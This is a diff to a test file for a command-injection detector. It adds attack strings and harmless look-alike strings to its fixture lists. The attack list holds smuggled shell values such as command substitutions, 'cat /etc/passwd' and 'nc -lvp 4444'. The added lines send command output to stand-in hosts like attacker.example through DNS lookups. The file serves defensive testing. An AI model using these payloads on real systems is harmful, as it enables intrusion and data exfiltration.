@@ -26,6 +26,8 @@ const ATTACKS: readonly string[] = [
   // Substitutions
   '`id`', '`/usr/bin/id`', '$(whoami)', 'x$(cat /etc/passwd)', '<(cat file)', '`ping 127.0.0.1`',
   '0.84622338492032948`echo${IFS}crs312``echo${IFS}34test`', '$(whoami$())', '$(echo $(cat$(id)))',
+  // a substitution glued to a host name (DNS exfiltration), a path or an assignment
+  '`whoami`.attacker.example', 'nslookup `hostname`.x.oast.example', 'http://x.example/`id`',
   // Value that is a command line
   'cat /etc/passwd', 'ping -i 30 127.0.0.1', 'ping.exe -n 31 127.0.0.1', '/usr/bin/id', 'bash -c "echo test"',
   'python3 -c "import os"', 'perl -e \'print 1\'', 'nc -lvp 4444', 'uname -a', 'find / -name passwd',
@@ -77,7 +79,8 @@ const BENIGN: readonly string[] = [
   'It failed; curl returned an error page', 'We use Kubernetes; docker images are built nightly.',
   'Build broke; npm registry was down for an hour', 'Returns the result of (e^x - 1), which is close to x',
   'nodejs için:', "a space-separated list of other elements' `id`s, indicating that", '> quoted text /tmp/x', '>/ home', '>>> /etc is a folder',
-  'Go to store.\nAt the store, shop.', 'Hello!\ndata not found.', 'We need the list "ASAP"', 'data:image/png;base64,iVBORw0KGgo=',
+  'Edit `package`.json then run `npm`.', 'call `date`.toString() here', 'Run `ls`/`dir` to list', 'the `git`-based workflow',
+  'Open `index`.html.tmpl first', 'Default=`true`, bigger = slower', 'Go to store.\nAt the store, shop.', 'Hello!\ndata not found.', 'We need the list "ASAP"', 'data:image/png;base64,iVBORw0KGgo=',
 ];
 
 describe('detectCmdi', () => {
